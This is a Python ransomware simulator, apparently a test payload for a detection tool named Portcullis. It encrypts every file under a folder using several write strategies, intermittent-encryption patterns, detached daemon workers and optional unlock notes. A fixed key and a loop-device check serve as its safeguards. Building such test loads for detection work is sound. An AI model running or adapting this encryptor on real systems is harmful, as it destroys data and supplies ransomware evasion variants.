#!/usr/bin/python3
"""A plain encryptor as found in the wild, in its many ways of writing: the load of the script family of attacks.

For tests only, and made useless for anything else: the key is fixed and printed here, so everything it does can be undone
with it, and it refuses any folder that is not on a loop device of a test host.
"""
import argparse
import base64
import hashlib
import mmap
import multiprocessing
import os
import sys
import threading
import time

KEY = b"portcullis test key, not a secret"
BLOCK = 1 << 16


def keystream(path, offset, length):
    """SHAKE-256 as a stream cipher: as random as AES to whoever looks at the bytes, and in every Python."""
    seed = KEY + hashlib.sha256(os.fsencode(path)).digest()
    return hashlib.shake_256(seed + offset.to_bytes(8, "big")).digest(length)


def encrypt(path, data, offset=0):
    stream = keystream(path, offset, len(data))
    return (int.from_bytes(data, "big") ^ int.from_bytes(stream, "big")).to_bytes(len(data), "big")


def spans(pattern, size):
    """The parts of a file that a pattern destroys, as (offset, length)."""
    if pattern == "head-4k":
        return [(0, min(4096, size))]
    if pattern == "stripes":
        return [(at, min(16384, size - at)) for at in range(0, size, 65536)]
    if pattern == "alternate-16":
        return [(at, min(16, size - at)) for at in range(0, min(size, 1 << 18), 32)]
    return [(at, min(BLOCK, size - at)) for at in range(0, size, BLOCK)]


def changed(path, data, pattern):
    if pattern == "base64":
        return base64.encodebytes(encrypt(path, data))
    out = bytearray(data)
    for at, length in spans(pattern, len(data)):
        out[at:at + length] = encrypt(path, data[at:at + length], at)
    return bytes(out)


def in_place(path, pattern):
    with open(path, "r+b") as file:
        for at, length in spans(pattern, os.fstat(file.fileno()).st_size):
            file.seek(at)
            part = file.read(length)
            file.seek(at)
            file.write(encrypt(path, part, at))


def by_mmap(path, pattern):
    with open(path, "r+b") as file, mmap.mmap(file.fileno(), 0) as view:
        for at, length in spans(pattern, len(view)):
            view[at:at + length] = encrypt(path, view[at:at + length], at)


def by_truncate(path, pattern):
    with open(path, "rb") as file:
        data = file.read()
    with open(path, "wb") as file:
        file.write(changed(path, data, pattern))


def by_temp_rename(path, pattern):
    with open(path, "rb") as file:
        data = file.read()
    with open(path + ".part", "wb") as file:
        file.write(changed(path, data, pattern))
    os.rename(path + ".part", path)


def by_new_unlink(path, pattern):
    with open(path, "rb") as file:
        data = file.read()
    with open(path + ".locked", "wb") as file:
        file.write(changed(path, data, pattern))
    os.unlink(path)


def by_rename_first(path, pattern):
    os.rename(path, path + ".locked")
    in_place(path + ".locked", pattern)


WAYS = {"inplace": in_place, "mmap": by_mmap, "truncate": by_truncate, "temp-rename": by_temp_rename,
        "new-unlink": by_new_unlink, "rename-first": by_rename_first}


def files_of(root):
    for folder, dirs, names in os.walk(root):
        dirs.sort()
        for name in sorted(names):
            path = os.path.join(folder, name)
            if os.path.isfile(path) and not os.path.islink(path) and os.path.getsize(path):
                yield path


def work(paths, args, delay):
    for path in paths:
        started = time.monotonic()
        try:
            WAYS[args.way](path, args.pattern)
        except OSError:
            continue  # what cannot be written beside (a name too long) an attacker skips
        if args.note and not os.path.exists(os.path.join(os.path.dirname(path), "README-UNLOCK.txt")):
            with open(os.path.join(os.path.dirname(path), "README-UNLOCK.txt"), "w") as note:
                note.write("This is a test of Portcullis. Your files are locked with the key in tests/attack/payload.\n" * 9)
        if delay:
            time.sleep(max(0.0, delay - (time.monotonic() - started)))


def detach():
    """The double fork of a daemon: nobody alive is its parent any more."""
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)


def on_loop_device(root):
    """The mount point that root lies beneath: by name, because btrfs has device numbers of its own."""
    with open("/proc/self/mountinfo") as mounts:
        points = [(line.split()[4], " /dev/loop" in line) for line in mounts]
    longest = max((p for p in points if root == p[0] or root.startswith(p[0].rstrip("/") + "/")), key=lambda p: len(p[0]))
    return longest[1]


def main():
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--way", choices=sorted(WAYS), default="inplace")
    options.add_argument("--pattern", choices=("full", "head-4k", "stripes", "alternate-16", "base64"), default="full")
    options.add_argument("--workers", type=int, default=1)
    options.add_argument("--threads", action="store_true", help="workers are threads, not processes")
    options.add_argument("--fork-each", action="store_true", help="a new process for each file")
    options.add_argument("--detach", action="store_true", help="each worker is a daemon that lost its parent")
    options.add_argument("--note", action="store_true", help="leave a note in every folder")
    options.add_argument("--rate", type=int, default=0, help="files a second over all workers; 0: flat out")
    options.add_argument("root")
    args = options.parse_args()
    root = os.path.realpath(args.root)
    if not on_loop_device(root):
        sys.exit("refused: %s is not on a test image" % root)
    paths = list(files_of(root))
    delay = args.workers / args.rate if args.rate else 0.0
    shares = [paths[i::args.workers] for i in range(args.workers)]
    if args.fork_each:
        for path in paths:
            if os.fork() == 0:
                work([path], args, 0)
                os._exit(0)
            os.wait()
    elif args.threads:
        crew = [threading.Thread(target=work, args=(share, args, delay)) for share in shares]
        for member in crew:
            member.start()
        for member in crew:
            member.join()
    elif args.detach:
        for share in shares:
            if os.fork() == 0:
                detach()
                work(share, args, delay)
                os._exit(0)
            os.wait()
    elif args.workers == 1:
        work(paths, args, delay)
    else:
        crew = [multiprocessing.Process(target=work, args=(share, args, delay)) for share in shares]
        for member in crew:
            member.start()
        for member in crew:
            member.join()


main()
